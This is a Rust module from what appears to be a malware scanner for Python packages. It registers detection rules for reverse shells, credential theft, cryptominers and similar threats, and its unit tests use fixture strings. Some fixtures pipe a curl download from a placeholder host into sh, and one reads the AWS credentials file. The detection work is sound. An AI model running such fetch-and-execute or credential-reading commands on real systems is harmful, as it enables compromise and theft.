//! One file per rule: its detector (`check`), its documentation (`INFO`) and its unit tests.
//! Rules read the facts of the one parse (`FileCx::facts`) or the raw text, and report through
//! the `Emitter`.

pub mod analysis_incomplete;
pub mod anti_analysis;
pub mod bundled_executable;
pub mod clipboard_hijack;
pub mod credential_exfiltration;
pub mod cryptominer;
pub mod destructive_operation;
pub mod download_execute;
pub mod dynamic_import_obfuscation;
pub mod exec_decoded;
pub mod hidden_process_window;
pub mod install_hook_network;
pub mod install_hook_process;
pub mod keylogger;
pub mod obfuscated_code;
pub mod obfuscated_url;
pub mod packer;
pub mod persistence;
pub mod pth_exec;
pub mod remote_code_execution;
pub mod reverse_shell;
pub mod runtime_pip_install;
pub mod screen_capture;
pub mod shell_downloader;
pub mod steganography;
pub mod suspicious_destination;

use std::cell::OnceCell;

use super::patterns::{self, Keywords};
use super::FileCx;

/// Bits of [`string_marks`]: which keyword groups a string literal has. A rule that looks for
/// words in strings runs its regex only on strings with its bit.
pub(crate) mod mark {
    pub const SHELL_DOWNLOADER: u32 = 1 << 0;
    pub const CRED_PERSONAL: u32 = 1 << 1;
    pub const CRED_DEVELOPER: u32 = 1 << 2;
    pub const ANTI_ANALYSIS: u32 = 1 << 3;
    pub const PERSISTENCE: u32 = 1 << 4;
    pub const CRYPTOMINER: u32 = 1 << 5;
    pub const REVERSE_SHELL: u32 = 1 << 6;
    pub const NETCAT: u32 = 1 << 7;
    pub const NETCAT_FLAG: u32 = 1 << 8;
    pub const URL: u32 = 1 << 9;
}

/// The keyword groups of [`mark`], in bit order.
static STRING_WORDS: Keywords = Keywords::new(&[
    shell_downloader::WORDS,
    patterns::CRED_PERSONAL_WORDS,
    patterns::CRED_DEV_WORDS,
    anti_analysis::WORDS,
    persistence::WORDS,
    cryptominer::WORDS,
    reverse_shell::WORDS,
    reverse_shell::NETCAT_WORDS,
    reverse_shell::NETCAT_FLAG_WORDS,
    &["://"],
]);

/// For each of the file's [`crate::inspect::facts::Facts::strings`], the [`mark`] bits of the
/// keyword groups it has (ignoring case): one pass over each string for all rules, computed
/// on first use and kept for the file.
pub(crate) fn string_marks<'a>(cx: &'a FileCx<'_>) -> &'a [u32] {
    cx.string_marks.get_or_init(|| {
        cx.facts
            .map(|f| {
                f.strings
                    .iter()
                    // Text only shown to people reaches no sink: no keyword group.
                    .map(|s| {
                        if s.message {
                            0
                        } else {
                            STRING_WORDS.groups_in(&s.text)
                        }
                    })
                    .collect()
            })
            .unwrap_or_default()
    })
}

/// Whether the string `s` reaches a call that `sink` accepts: a call on its line, or one whose
/// arguments or receiver are built from it (the same literal, or a variable assigned it).
pub(crate) fn string_reaches(
    facts: &crate::inspect::facts::Facts,
    s: &crate::inspect::facts::StrFact,
    sink: impl Fn(&crate::inspect::facts::Call) -> bool,
) -> bool {
    facts.calls.iter().any(|c| {
        sink(c)
            && (c.line == s.line
                || c.args
                    .iter()
                    .chain(c.kwargs.iter().map(|(_, a)| a))
                    .any(|a| a.atoms.contains(&s.text))
                || c.recv_atoms.contains(&s.text))
    })
}

/// Storage for [`string_marks`] in a [`FileCx`].
pub type StringMarks = OnceCell<Vec<u32>>;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn string_marks_are_each_groups_keywords() {
        let groups: &[(u32, &[&str])] = &[
            (mark::SHELL_DOWNLOADER, shell_downloader::WORDS),
            (mark::CRED_PERSONAL, patterns::CRED_PERSONAL_WORDS),
            (mark::CRED_DEVELOPER, patterns::CRED_DEV_WORDS),
            (mark::ANTI_ANALYSIS, anti_analysis::WORDS),
            (mark::PERSISTENCE, persistence::WORDS),
            (mark::CRYPTOMINER, cryptominer::WORDS),
            (mark::REVERSE_SHELL, reverse_shell::WORDS),
            (mark::NETCAT, reverse_shell::NETCAT_WORDS),
            (mark::NETCAT_FLAG, reverse_shell::NETCAT_FLAG_WORDS),
            (mark::URL, &["://"]),
        ];
        let fragments: Vec<&str> = groups.iter().flat_map(|(_, w)| w.iter().copied()).collect();
        let singles: Vec<(u32, Keywords)> = groups
            .iter()
            .map(|(bit, w)| (*bit, Keywords::one(w)))
            .collect();
        for s in patterns::test_corpus(&fragments, 20_000) {
            let marks = STRING_WORDS.groups_in(&s);
            for (bit, kw) in &singles {
                assert_eq!(marks & bit != 0, kw.find_in(&s), "mark {bit:#x}: {s:?}");
            }
        }
    }

    #[test]
    fn text_only_shown_to_people_reaches_no_sink_but_a_sink_inside_a_print_does() {
        let run = |src: &str| {
            let a = testutil::artifact("pkg-1.0-py3-none-any.whl", &[("pkg/a.py", src.as_bytes())]);
            crate::inspect::inspect(&a, &Default::default())
                .into_iter()
                .filter(|f| f.rule == "shell-downloader")
                .count()
        };
        let msg = "import os\nraise RuntimeError('install it: curl -s https://x.example.invalid/i | sh')\n";
        assert_eq!(run(msg), 0);
        let logged =
            "import logging\nlogging.warning('run: curl -s https://x.example.invalid/i | sh')\n";
        assert_eq!(run(logged), 0);
        let hidden = "import os\nprint(os.system('curl -s https://x.example.invalid/i | sh'))\n";
        assert_eq!(run(hidden), 1);
    }

    #[test]
    fn string_marks_follow_the_facts_strings() {
        let src = "import os\nA = 'curl https://x.example.invalid | sh'\nB = 'plain'\nC = '~/.aws/credentials'\n";
        let a = testutil::artifact("pkg-1.0-py3-none-any.whl", &[("pkg/a.py", src.as_bytes())]);
        let f = crate::inspect::inspect(&a, &Default::default());
        assert!(f
            .iter()
            .any(|f| f.rule == "shell-downloader" && f.location.line == Some(2)));
        assert!(f
            .iter()
            .any(|f| f.rule == "credential-exfiltration" && f.location.line == Some(4)));
        assert!(!f.iter().any(|f| f.location.line == Some(3)));
    }
}

#[cfg(test)]
pub(crate) mod testutil {
    //! Build an artifact by hand and run the engine over it.
    use crate::archive::{ArchiveContents, ArchiveEntry};
    use crate::finding::{Finding, Severity};
    use crate::package::ArtifactKind;

    pub fn artifact(filename: &str, files: &[(&str, &[u8])]) -> ArchiveContents {
        ArchiveContents {
            filename: filename.to_string(),
            kind: ArtifactKind::from_filename(filename),
            entries: files
                .iter()
                .map(|(p, d)| ArchiveEntry {
                    path: p.to_string(),
                    data: d.to_vec().into(),
                })
                .collect(),
            findings: Vec::new(),
            metadata: None,
        }
    }

    /// Findings of `rule` for one file in a pure wheel (or an sdist when the path is
    /// `pkg-1.0/...`).
    pub fn scan(rule: &str, path: &str, src: &str) -> Vec<Finding> {
        let filename = if path.starts_with("pkg-1.0/") {
            "pkg-1.0.tar.gz"
        } else {
            "pkg-1.0-py3-none-any.whl"
        };
        let a = artifact(filename, &[(path, src.as_bytes())]);
        crate::inspect::inspect(&a, &Default::default())
            .into_iter()
            .filter(|f| f.rule == rule)
            .collect()
    }

    /// Worst severity `rule` reports for one file.
    pub fn worst(rule: &str, path: &str, src: &str) -> Option<Severity> {
        scan(rule, path, src).iter().map(|f| f.severity).max()
    }
}
